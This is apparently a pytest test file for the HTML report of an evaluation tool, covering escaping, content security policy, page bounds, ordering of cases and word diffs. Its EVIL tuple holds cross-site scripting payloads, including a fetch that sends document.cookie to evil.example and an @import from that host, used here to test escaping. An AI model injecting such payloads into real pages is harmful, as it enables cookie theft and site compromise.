"""The page of a run: what stands in it, in which order, how large it is, and that no text in it is more than text."""

import re
from html.parser import HTMLParser

import pytest

from capstan_evaluation.records import Outcome, Run, Verdict
from capstan_evaluation.reports.html import bounds, render_html
from capstan_evaluation.reports.html.cases import Standing, all_cases, tag_scores
from capstan_evaluation.reports.html.diffs import mark_differences
from capstan_evaluation.reports.html.figures import draw_histogram, quantile
from capstan_evaluation.reports.html.markup import Html, element, escape
from support.evaluated import many, result, run, untold, verdict

EVIL = (
    "</script><script>fetch('http://evil.example/' + document.cookie)</script>",
    '"><img src=http://evil.example/x onerror=alert(1)>',
    "javascript:alert(1)",
    "[a link](javascript:alert(1)) <a href='javascript:alert(1)'>here</a>",
    "</pre></details></style><style>@import url(http://evil.example/a.css)</style>",
    "<!-- <svg onload=alert(1)> --> ]]> &lt;b&gt; {{7*7}} ${7*7}",
    "\u202eesrever \x00\x1b[31m \ud800 \ufeff",
)


class Parsed(HTMLParser):
    """What a parser of HTML finds in a page: its elements, and the text outside of style and script."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self._inside = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self._inside = tag

    def handle_endtag(self, tag: str) -> None:
        self._inside = ""

    def handle_data(self, data: str) -> None:
        if self._inside not in ("style", "script"):
            self.text += data


def pair(count: int = 60) -> tuple[Run, Run, Verdict]:
    """Give a run, its baseline, and a verdict of them."""
    now, before = many(count, revision="v2", failing=0.2), many(count, revision="v1", failing=0.1)
    return now, before, verdict(now, before, Outcome.FAIL)


def test_the_same_runs_give_the_same_bytes():
    """A page is a function of what it shows, so that two of them can be compared and cached."""
    assert render_html(*pair()) == render_html(*pair())


def test_the_page_needs_nothing_but_itself():
    """No element loads anything, no link leads away, and nothing is styled or done by an attribute."""
    parsed = Parsed(render_html(*pair()))
    assert {name for name, _ in parsed.elements} <= {
        *("html", "head", "meta", "title", "style", "body", "a", "header", "main", "footer", "section", "script", "p"),
        *(
            "h1",
            "h2",
            "h3",
            "h4",
            "b",
            "small",
            "span",
            "div",
            "ul",
            "li",
            "dl",
            "dt",
            "dd",
            "table",
            "caption",
            "thead",
        ),
        *("tbody", "tr", "th", "td", "svg", "g", "line", "circle", "path", "rect", "text", "figure", "figcaption"),
        *("form", "label", "input", "select", "option", "button", "details", "summary", "pre", "ins", "del"),
    }
    for name, attributes in parsed.elements:
        assert not {"src", "style", "srcset", "action"} & set(attributes)
        assert not any(attribute.startswith("on") for attribute in attributes)
        assert name == "a" or "href" not in attributes
    assert [attributes["href"] for name, attributes in parsed.elements if name == "a"] == ["#cases"]
    assert "url(" not in render_html(*pair())


def test_the_policy_allows_this_style_and_this_script_only():
    """The browser is told to load nothing and to run nothing besides what stands in the page, by its hash."""
    policy = next(a["content"] for name, a in Parsed(render_html(*pair())).elements if a.get("http-equiv"))
    assert re.fullmatch(
        r"default-src 'none'; style-src 'sha256-[\w+/]{43}='; script-src 'sha256-[\w+/]{43}='; base-uri 'none'; "
        r"form-action 'none'",
        policy or "",
    )


@pytest.mark.parametrize("evil", EVIL)
def test_what_models_and_users_wrote_is_text(evil: str):
    """Wherever a run has words, markup in them is shown and does nothing; the page has the same elements as without."""

    def page(text: str) -> str:
        bad = result(text, passed=False, text=text, prompt=text, tags=(text,))
        bad = bad.model_copy(
            update={
                "expected": text,
                "scores": (bad.scores[0].model_copy(update={"scorer": text, "reason": text}),),
                "answer": bad.answer.model_copy(update={"finishReason": text}),
            }
        )
        failed = result(text + "2", error=text)
        now = run([bad, failed], suite=text, revision=text)
        header = now.header.model_copy(
            update={"judge": text, "url": text, "id": text, "suiteHash": text, "began": text}
        )
        now = now.model_copy(update={"header": header})
        before = run([result(text, text="fine")])
        said = verdict(now, before, Outcome.INCONCLUSIVE)
        named = said.comparisons[0].model_copy(update={"scorer": text, "note": text})
        return render_html(now, before, said.model_copy(update={"comparisons": (named,)}))

    page(evil).encode()
    shown, plain = Parsed(page(evil)), Parsed(page("plain"))

    def frame(parsed: Parsed) -> list[str]:
        # How many words of an answer differ is not what this is about.
        return [name for name, _ in parsed.elements if name not in ("ins", "del")]

    assert frame(shown) == frame(plain)
    assert evil in shown.text or evil is EVIL[-1]


def test_signs_that_hide_or_reorder_are_shown_by_number():
    """A text cannot hide in a page, nor make other text read differently; line ends and joined letters stay."""
    assert escape("a\u202eb\x00c\ud800\ufeff") == "a⟨U+202E⟩b⟨U+0000⟩c⟨U+D800⟩⟨U+FEFF⟩"
    assert escape("a\r\nb\tc\u200d\u200c<") == "a\nb\tc\u200d\u200c&lt;"


def test_only_markup_is_not_escaped():
    """A `str` is text wherever it stands; `Html` is not."""
    made = element("p", "<b>", Html("<i>"), [None, "&"], class_='"', data_n=0, hidden=True, open=False)
    assert made == '<p class="&quot;" data-n="0" hidden>&lt;b&gt;<i>&amp;</p>'


def test_the_verdict_stands_in_plain_words_with_its_numbers():
    """The head says worse, no worse or could not tell, and by which numbers."""
    now, before, said = pair()
    for outcome, words in (
        (Outcome.FAIL, "Worse than the baseline"),
        (Outcome.PASS, "No worse than the baseline"),
        (Outcome.INCONCLUSIVE, "Could not tell"),
    ):
        judged = verdict(now, before, outcome)
        text = Parsed(render_html(now, before, judged)).text
        assert words in text
        assert f"{judged.comparisons[0].difference * 100:+.1f}".replace("-", "\u2212") in text
    text = Parsed(render_html(now, before, verdict(now, before, Outcome.INCONCLUSIVE))).text
    assert "it takes about 1,240 cases to see one of 2.0" in text
    assert "Nothing to compare with" in Parsed(render_html(now, None, None)).text
    informing = said.comparisons[0].model_copy(update={"mayGate": False})
    text = Parsed(render_html(now, before, said.model_copy(update={"comparisons": (informing,)}))).text
    assert "No scorer may decide" in text


def test_what_needs_a_reader_comes_first():
    """Cases are in the order of how much they need one, and each says how it stands."""
    now = run(
        [
            result("passes"), result("better"), untold("untold"), result("flaky", passed=False),
            result("bad", passed=False), result("gone", error="timeout"), result("worse", passed=False),
        ]
    )  # fmt: skip
    before = run([result("better", passed=False), result("worse"), result("flaky"), result("bad", passed=False)])
    said = verdict(now, before, Outcome.FAIL, flaky=("flaky",))
    page = render_html(now, before, said)
    order = re.findall(r'data-standing="(\w+)"', page)
    assert order == [standing.name for standing in Standing]
    assert [case.standing for case in all_cases(now, before, said)] == list(reversed(Standing))
    text = Parsed(page).text
    assert "Flaky: flaky." in text
    assert "No answer: timeout" in text
    assert "The baseline has not asked this case." in text


def test_large_runs_leave_out_what_passes_and_count_it():
    """With more cases than fit, those that pass are left out first, then the last failing ones; both are counted."""
    now, before, said = (many(2000, revision="v2", failing=0.5), many(2000, revision="v1", failing=0.5), None)
    said = verdict(now, before, Outcome.PASS)
    page = render_html(now, before, said)
    shown = re.findall(r'data-standing="(\w+)"', page)
    assert len(shown) == bounds.MOST_CASES
    assert "PASSES" not in shown
    left = re.findall(r"Left out here, to keep the page small: (.*?)\. The run", Parsed(page).text)[0]
    assert sum(int(count.replace(",", "")) for count in re.findall(r"[\d,]+(?= \u201c)", left)) == 1500


def test_long_answers_do_not_make_a_large_page(monkeypatch: pytest.MonkeyPatch):
    """The page has a bound in bytes; of a long text beginning and end are shown, and how much is between."""
    long = many(30, revision="v2", failing=1.0, words=20_000)
    monkeypatch.setattr("capstan_evaluation.reports.html.listing.MOST_BYTES", 200_000)
    page = render_html(long, many(30, revision="v1", failing=1.0, words=20_000), None)
    assert len(page.encode()) < 300_000
    assert 0 < page.count('class="case"') < 30
    assert "characters are left out here" in page
    assert "Left out here" in page


def test_very_many_names_are_bounded():
    """Tags, scorers and names have bounds of their own."""
    results = [result("x" * 5000 + str(n), tags=[f"tag{n}-{m}" for m in range(60)]) for n in range(40)]
    page = render_html(run(results), None, None)
    assert len(page) < 400_000
    assert "more tags left out" in page
    assert page.count("<option value=") == bounds.MOST_TAGS + 3


def test_repeats_are_told():
    """Of several repeats the first that fails is shown, beside the baseline's same one, and how many pass."""
    now = run([result("a", repeat=n, passed=n != 1, text=f"answer {n}") for n in range(3)], repeats=3)
    before = run([result("a", repeat=n, text=f"before {n}") for n in range(3)], repeats=3)
    text = Parsed(render_html(now, before, None)).text
    assert "Repeat 2 of 3 is shown; 2 of them pass (✓✗✓)" in text
    assert "answer 1" in text
    assert "before 1" in text


def test_identical_requests_are_counted_once():
    """Cases whose requests are the same were asked once, so that what the answer took is counted once."""
    twice = run([result("a"), result("b").model_copy(update={"request": result("a").request})])
    once = run([result("a")])
    costs = [re.findall(r"\$[\d.]+", Parsed(render_html(some, None, None)).text)[-2:] for some in (twice, once)]
    assert costs[0] == costs[1] != []


def test_tags_are_summed_by_weight():
    """The score of a tag is the mean of its cases by weight, and the baseline's of the same cases."""
    heavy = result("a", passed=True, tags=("t",)).model_copy(update={"weight": 3.0})
    now = run([heavy, result("b", passed=False, tags=("t", "t"))])
    scored = tag_scores(all_cases(now, run([result("a", passed=False)]), None), "exact")
    assert [(one.tag, one.cases, one.candidate, one.baseline) for one in scored] == [("t", 2, 0.75, 0.0)]


def test_each_scorer_has_its_table_by_tag():
    """The first scorer's table by tag is open, those of further ones can be opened, and a run without tags has none."""
    page = render_html(*pair())
    assert page.count('<details class="more">') == 1
    assert page.count("Mean score of the cases with each tag") == 2
    assert "Score by tag" not in render_html(run([result("a")]), None, None)


def test_an_empty_run_is_a_page():
    """A run without any result, and a verdict without any scorer, are shown as they are."""
    empty = run([])
    assert "Could not tell" in render_html(
        empty, empty, Verdict(outcome=Outcome.INCONCLUSIVE, alpha=0.05, comparisons=())
    )
    assert "<h1" in render_html(empty, None, None)


def test_passwords_of_urls_are_left_out():
    """The address of the target is shown without a name and a password in it."""
    now = run([result("a")])
    header = now.header.model_copy(update={"url": "https://me:secret@gateway.example/v1"})
    page = render_html(now.model_copy(update={"header": header}), None, None)
    assert "gateway.example" in page
    assert "secret" not in page


def test_differences_are_marked_word_by_word():
    """What only one of two answers says is marked, and what both say stands in both."""
    left, right = mark_differences("The answer is <42> today", "The answer is <43> today")
    assert left == "The answer is &lt;<del>42</del>&gt; today"
    assert right == "The answer is &lt;<ins>43</ins>&gt; today"
    assert mark_differences("same", "same") == ("same", "same")
    assert mark_differences("", "new") == ("", "<ins>new</ins>")


@pytest.mark.parametrize("unit", ["a b ", "word\n", "x", "a\n\n"])
def test_differences_of_hostile_texts_end(unit: str):
    """Texts that repeat themselves, and are too long to compare by words, are compared by lines, or shown unmarked."""
    before, now = unit * (12_000 // len(unit)), "z " + unit * (11_000 // len(unit)) + "end"
    left, right = mark_differences(before, now)
    assert re.sub(r"</?(?:del|ins)>", "", left) == before
    assert re.sub(r"</?(?:del|ins)>", "", right) == now


def test_quantiles_are_values_that_occur():
    """The nearest rank: half of four values are at most the second."""
    assert [quantile([1, 2, 3, 4], share) for share in (0, 0.25, 0.5, 0.51, 0.99, 1)] == [1, 1, 2, 3, 4, 4]
    assert "height=" in draw_histogram([0.0, 1.0, -1.0])
